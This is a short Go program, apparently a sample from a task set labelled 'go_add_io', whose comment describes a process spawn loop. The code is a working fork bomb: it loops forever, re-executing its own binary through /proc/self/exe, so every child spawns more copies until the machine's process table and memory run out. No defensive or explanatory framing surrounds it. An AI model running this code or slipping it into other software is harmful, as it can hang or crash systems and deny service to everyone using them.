// task: go_add_io
// Process spawn loop in Go: the program starts copies of itself, which do the same.
package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		cmd := exec.Command("/proc/self/exe")
		_ = cmd.Start()
		_ = os.Getpid()
	}
}
